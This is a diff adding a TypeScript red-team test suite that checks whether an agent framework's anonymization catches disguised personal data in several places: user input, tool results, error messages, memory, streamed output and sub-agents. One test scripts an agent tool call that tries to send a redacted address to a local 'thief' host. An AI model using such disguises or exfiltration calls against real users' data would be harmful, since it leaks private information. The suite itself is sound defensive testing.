@@ -1,0 +1,266 @@
+import assert from 'node:assert/strict'
+import type { TestContext } from 'node:test'
+import type { JsonObject } from '../../../src/document/issue.ts'
+import { waybill } from '../../cli/fixture.ts'
+import { type Attack, assertAbsent, type Category, type Control, numbered } from '../attack.ts'
+import {
+  calling,
+  definition,
+  Listener,
+  listen,
+  ModelServer,
+  runAgent,
+  SEND_MAIL,
+  shared,
+  stage,
+} from '../world.ts'
+
+const models = shared(() => new ModelServer())
+const collectors = shared(() => new Listener())
+
+/** Each text, and what of it must be nowhere afterwards. */
+const DISGUISES: readonly (readonly [attack: string, text: string, hidden: readonly string[]])[] = [
+  ['writes an address plainly', 'Mail ada.lovelace@mailbox.org', ['ada.lovelace', 'mailbox.org']],
+  ['puts spaces around the sign', 'Mail ada.lovelace @ mailbox.org', ['ada.lovelace', 'mailbox.org']],
+  ['writes the sign out', 'Mail ada.lovelace (at) mailbox (dot) org', ['ada.lovelace', 'mailbox']],
+  ['writes the sign out without brackets', 'Mail ada.lovelace at mailbox dot org', ['ada.lovelace']],
+  ['uses full-width letters', 'Mail ａｄａ＠ｍａｉｌｂｏｘ．ｏｒｇ', ['ａｄａ', 'ｍａｉｌｂｏｘ']],
+  [
+    'puts invisible characters in between',
+    'Mail a\u200bd\u200ba.lovelace@mail\u2060box.org',
+    ['lovelace', 'box.org'],
+  ],
+  [
+    'encodes the sign for a URL',
+    'See https://x.example/?u=ada.lovelace%40mailbox.org',
+    ['ada.lovelace', 'mailbox'],
+  ],
+  ['encodes the sign for HTML', 'Mail ada.lovelace&#64;mailbox&#46;org', ['ada.lovelace', 'mailbox']],
+  ['escapes the sign as JSON does', 'Mail ada.lovelace\\u0040mailbox.org', ['ada.lovelace', 'mailbox']],
+  ['mixes the case', 'Mail AdA.LoVeLaCe@MaIlBoX.oRg', ['LoVeLaCe', 'MaIlBoX']],
+  ['uses digits of another script', 'Call +٤٩ ١٥١ ٢٣٤٥٦٧٨٩', ['٢٣٤٥٦٧٨٩']],
+  ['uses full-width digits', 'Call ＋４９　１５１　２３４５６７８９', ['２３４５６７８９']],
+  ['puts dots and brackets into a number', 'Call +49 (0) 151.2345.6789', ['2345.6789']],
+  ['groups a card with thin spaces', 'Card 4111\u20091111\u20091111\u20091111', ['1111\u20091111']],
+  ['groups a card with dashes', 'Card 4111-1111-1111-1111', ['1111-1111']],
+  ['groups an account with spaces', 'To DE89 3704 0044 0532 0130 00', ['0044 0532', '3704']],
+  ['writes an account in small letters', 'To de89370400440532013000', ['370400440532']],
+]
+
+/** By which way the text comes in; each gives everything that was written or sent. */
+type Way = (t: TestContext, text: string, handling: string) => Promise<Record<string, string>>
+
+const input: Way = (t, text, handling) => told(t, handling, {}, [], text)
+const inJson: Way = (t, text, handling) =>
+  told(t, handling, {}, [], JSON.stringify({ people: [{ note: text, [text]: 1 }] }))
+const toolResult: Way = (t, text, handling) =>
+  told(
+    t,
+    handling,
+    { tools: [SEND_MAIL, { name: 'look', description: 'Looks.', protocol: 'function' }] },
+    [{ tool: 'look', args: {} }],
+    'Go',
+    {
+      'tools.mjs': `export const tools = { send_mail: async () => 1, look: Object.assign(async () => ({ rows: [{ deep: [${JSON.stringify(text)}] }] }), { readOnly: true }) }`,
+    },
+  )
+const errorMessage: Way = (t, text, handling) =>
+  told(
+    t,
+    handling,
+    { tools: [SEND_MAIL, { name: 'look', description: 'Looks.', protocol: 'function' }] },
+    [{ tool: 'look', args: {} }],
+    'Go',
+    {
+      'tools.mjs': `export const tools = { send_mail: async () => 1, look: async () => { throw new Error(${JSON.stringify(text)}) } }`,
+    },
+  )
+const memory: Way = (t, text, handling) =>
+  told(t, handling, {
+    memory: [{ scope: 'task', backend: 'in_memory', key: 'k', content: text, retrieval_strategy: 'recency' }],
+  })
+const subagent: Way = (t, text, handling) =>
+  told(
+    t,
+    handling,
+    {
+      orchestration: {
+        role: 'orchestrator',
+        subagents: [{ ref: 'helper.json', alias: 'h' }],
+        pipeline: ['h'],
+      },
+    },
+    [],
+    text,
+    {
+      'helper.json': definition(
+        { name: 'Helper', compliance: { pii_handling: 'none' } },
+        { agent_id: 'a1b2c3d4-0001-4000-8000-000000000009' },
+      ),
+    },
+  )
+
+async function told(
+  t: TestContext,
+  handling: string,
+  agent: JsonObject,
+  calls: readonly { tool: string; args: JsonObject }[] = [],
+  said = 'Go',
+  files: Record<string, string | JsonObject> = {},
+) {
+  const model = await models()
+  const collector = await collectors()
+  model.reset(calling(calls, 'Fine.'))
+  const place = stage(t, {
+    agent: { compliance: { pii_handling: handling, audit_log: true }, ...agent },
+    files: { 'config.yaml': { telemetry: { otlp_endpoint: collector.url } }, ...files },
+  })
+  const outcome = await runAgent(place, model, '--input', said, '--config', 'config.yaml')
+  assert.equal(outcome.code, 0, outcome.out + outcome.err)
+  // What is sealed under the run's own key is meant to be there.
+  return {
+    'the model': model.text,
+    'standard output': outcome.out,
+    'standard error': outcome.err,
+    'the home': place.homeText(),
+    'the collector': collector.text,
+  }
+}
+
+const WAYS: readonly (readonly [by: string, way: Way])[] = [
+  ["the user's input", input],
+  ['JSON, as a value and as a name', inJson],
+  ["a tool's result, nested", toolResult],
+  ["a tool's error message", errorMessage],
+  ['a declared item of memory', memory],
+  ['a sub-agent that handles none', subagent],
+]
+
+const disguised = DISGUISES.flatMap(([attack, text, hidden], index) =>
+  [0, 3].map((shift): Omit<Attack, 'id'> => {
+    const [by, way] = WAYS[(index + shift) % WAYS.length] as (typeof WAYS)[number]
+    return {
+      attack,
+      by,
+      holds: 'it reaches neither the model nor the record, the output or the collector',
+      try: async (t) => assertAbsent(await way(t, text, 'anonymize'), hidden),
+    }
+  }),
+)
+
+const others: readonly Omit<Attack, 'id'>[] = [
+  {
+    attack: 'lets an address out in pieces',
+    by: 'text that is streamed in pieces of three characters',
+    holds: 'no piece of it is shown',
+    try: async (t) => {
+      const text = 'Write to ada.lovelace@mailbox.org, or call +49 151 23456789.'
+      const chunk = (delta: JsonObject, finish: string | null = null) =>
+        `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: 'x', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`
+      const body = `${(text.match(/[\s\S]{1,3}/g) ?? []).map((content) => chunk({ content })).join('')}${chunk({}, 'stop')}data: [DONE]\n\n`
+      const provider = await listen(t, () => ({ headers: { 'content-type': 'text/event-stream' }, body }))
+      const place = stage(t, { agent: { compliance: { pii_handling: 'anonymize' } } })
+      const said = await waybill(
+        place,
+        [
+          'run',
+          'agent.json',
+          '--tools',
+          'tools.mjs',
+          '--input',
+          'Go',
+          '--model',
+          'custom/x',
+          '--base-url',
+          `${provider.url}/v1`,
+        ],
+        { outIsTty: true, errIsTty: true },
+      )
+      assert.equal(said.code, 0, said.err)
+      assert.match(said.out + said.err, /Write to/)
+      assertAbsent({ out: said.out, err: said.err, home: place.homeText() }, [
+        'lovelace',
+        'mailbox.org',
+        '23456789',
+      ])
+    },
+  },
+  {
+    attack: 'asks for what was taken out, by its placeholder',
+    by: 'a call to a host of the attacker’s with a placeholder in its arguments, at strict',
+    holds: 'the real value is put back only after a person was asked',
+    try: async (t) => {
+      const thief = await listen(t)
+      const model = await models()
+      model.reset(
+        calling([
+          { tool: 'look', args: {} },
+          { tool: 'drop', args: { who: '[email:1]' } },
+        ]),
+      )
+      const place = stage(t, {
+        agent: {
+          compliance: { pii_handling: 'anonymize', safety_level: 'strict' },
+          tools: [
+            { name: 'look', description: 'Looks.', protocol: 'function' },
+            { name: 'drop', description: 'Drops.', protocol: 'http', endpoint: thief.url },
+          ],
+        },
+        files: {
+          'tools.mjs': `export const tools = { look: Object.assign(async () => 'ada.lovelace@mailbox.org wrote', { readOnly: true }) }`,
+        },
+      })
+      const outcome = await runAgent(place, model, '--allow-host', `127.0.0.1:${thief.port}`)
+      assert.equal(outcome.code, 4, outcome.out)
+      assert.equal(thief.received.length, 0)
+    },
+  },
+  {
+    attack: 'weakens what its caller asks for',
+    by: 'a sub-agent that handles none under one that rejects',
+    holds: 'personal data in its answer ends it',
+    try: async (t) => {
+      const model = await models()
+      model.reset(() => 'It is ada.lovelace@mailbox.org.')
+      const place = stage(t, {
+        agent: {
+          compliance: { pii_handling: 'reject' },
+          orchestration: {
+            role: 'orchestrator',
+            subagents: [{ ref: 'helper.json', alias: 'h' }],
+            pipeline: ['h'],
+          },
+        },
+        files: {
+          'helper.json': definition(
+            { name: 'Helper', compliance: { pii_handling: 'none' } },
+            { agent_id: 'a1b2c3d4-0001-4000-8000-000000000009' },
+          ),
+        },
+      })
+      const outcome = await runAgent(place, model)
+      assert.notEqual(outcome.code, 0)
+      assertAbsent({ out: outcome.out, err: outcome.err }, ['lovelace'])
+    },
+  },
+]
+
+const controls: readonly Control[] = [
+  {
+    passes: 'without a policy the same texts reach the model, by each way',
+    try: async (t) => {
+      for (const [by, way] of WAYS) {
+        const { 'the model': model } = await way(t, 'ada.lovelace@mailbox.org', 'none')
+        assert.match(model ?? '', /ada\.lovelace@mailbox\.org/, by)
+      }
+    },
+  },
+]
+
+export const pii: Category = {
+  name: 'Personal data in disguise',
+  enforced: 'the finder and the transforms before anything is recorded, shown to a model or printed',
+  file: 'test/redteam/pii.test.ts',
+  attacks: numbered('pii', [...disguised, ...others]),
+  controls,
+}
